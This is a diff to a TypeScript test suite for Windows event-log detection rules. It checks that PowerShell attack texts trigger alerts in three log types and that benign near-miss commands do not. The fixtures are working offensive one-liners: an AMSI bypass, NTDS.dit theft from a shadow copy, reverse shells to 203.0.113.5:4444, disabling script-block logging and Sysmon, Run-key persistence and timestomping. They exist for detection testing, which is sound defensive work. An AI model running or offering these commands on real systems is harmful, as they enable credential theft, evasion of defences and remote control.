@@ -1422,6 +1422,58 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(42, `${S32}reg.exe`, 'reg query "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE'))).not.toContain(AUTO);
   });
 
+  it('PowerShell behaviours in all three logs (script block 4104, module logging 4103, classic pipeline 800): each family fires on its text in each and not on a near miss', () => {
+    const module = (t: number, text: string): ReturnType<typeof makeEvent> =>
+      win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe\r\nCommand Name = Invoke-Expression\r\n', Payload: `CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="${text}"` });
+    const classic = (t: number, text: string): ReturnType<typeof makeEvent> =>
+      win(t, 'Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"'] } });
+    const families: [string, string, string, string][] = [
+      // [title without the log suffix, level, tactic, firing text], near miss after
+      ['Credential Files Copied From A Volume Shadow Copy', 'high', 'credential-access', 'Copy-Item \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit'],
+      ['AMSI Disabled Or Patched From PowerShell', 'high', 'defense-impairment', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"],
+      ['Process Injection Functions Of Public PowerShell Modules', 'high', 'stealth', 'Invoke-ReflectivePEInjection -PEBytes $b -ProcId 1234'],
+      ['Remote Execution Functions Of Public PowerShell Modules', 'high', 'lateral-movement', 'Invoke-PsExec -ComputerName ws02 -Command whoami'],
+      ['Privilege Escalation Functions Of Public PowerShell Modules', 'high', 'privilege-escalation', 'Invoke-AllChecks | Out-File c.txt'],
+      ['Reverse Shell Or Tunnel Functions Of Public PowerShell Modules', 'high', 'command-and-control', 'Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.5 -Port 4444'],
+      ['PowerShell Logging Or A Defence Policy Value Written', 'medium', 'defense-impairment', 'Set-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging -Name EnableScriptBlockLogging -Value 0'],
+      ['Security Or Logging Service Stopped Or Disabled From PowerShell', 'medium', 'defense-impairment', 'Stop-Service -Name Sysmon64 -Force'],
+      ['Hidden Or System Attribute Set From PowerShell', 'low', 'stealth', "(Get-Item C:\\Users\\bob\\x.exe -Force).Attributes = 'Hidden,System'"],
+      ['Auto-Start Registry Location Written From PowerShell', 'medium', 'persistence', "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value 'C:\\Users\\bob\\u.exe'"],
+      ['Shortcut Created In A Startup Folder From PowerShell', 'medium', 'persistence', '$s = (New-Object -ComObject WScript.Shell).CreateShortcut("$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk"); $s.Save()'],
+      ['Local Account Created Or Added To A Group From PowerShell', 'medium', 'persistence', 'Add-LocalGroupMember -Group Administrators -Member support'],
+      ['Command Run On Another Host With Invoke-Command', 'low', 'lateral-movement', 'Invoke-Command -ComputerName ws02 -ScriptBlock { whoami }'],
+      ['Process Memory Dump API Called From PowerShell', 'high', 'credential-access', "$m = $WER.GetNestedType('NativeMethods', 'NonPublic').GetMethod('MiniDumpWriteDump', $f)"],
+      ['File Times Set From PowerShell', 'low', 'stealth', "(Get-Item C:\\Users\\bob\\evil.exe).CreationTime = '01/01/2015 00:00:00'"],
+      ['Screen Captured From PowerShell', 'low', 'collection', '$g.CopyFromScreen($b.Location, [System.Drawing.Point]::Empty, $b.Size)'],
+    ];
+    const nearMisses = [
+      'Get-Service -Name Sysmon64, WinDefend | Select-Object Status',
+      "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name AutoAdminLogon -Value 1",
+      "Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name LmCompatibilityLevel -Value 5",
+      'Invoke-Command -ScriptBlock { Get-Date }',
+      '(Get-Item C:\\Users\\bob\\a.txt).CreationTime',
+      'Get-ChildItem C:\\Users\\bob -Force | Where-Object { $_.Attributes -match "Hidden" }',
+      'Get-LocalGroupMember -Group Administrators',
+      'Copy-Item C:\\Users\\bob\\a.txt C:\\Users\\bob\\Documents\\a.txt',
+    ];
+    for (const [name, level, tactic, text] of families) {
+      expectHit(`${name} (script block 4104)`, block(1, text), level, tactic);
+      expectHit(`${name} (module logging 4103)`, module(2, text), level, tactic);
+      expectHit(`${name} (classic pipeline 800)`, classic(3, text), level, tactic);
+    }
+    const names = new Set(families.map(([n]) => n));
+    for (const text of nearMisses) {
+      for (const e of [block(4, text), module(5, text), classic(6, text)]) {
+        const loud = titlesOf(e).filter((title) => names.has(title.replace(/ \((script block 4104|module logging 4103|classic pipeline 800)\)$/, '')));
+        expect(loud, text).toEqual([]);
+      }
+    }
+    // Twins of the script-block-only families read the same texts in 4103 and 800.
+    expectHit('TCP Reverse Shell In PowerShell (module logging 4103)', module(7, "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ iex $d }"), 'high', 'command-and-control');
+    expectHit('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)', classic(8, 'Enter-PSSession -ComputerName ws02'), 'low', 'lateral-movement');
+    expect(titlesOf(classic(9, 'Enter-PSSession -Id 3'))).not.toContain('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)');
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
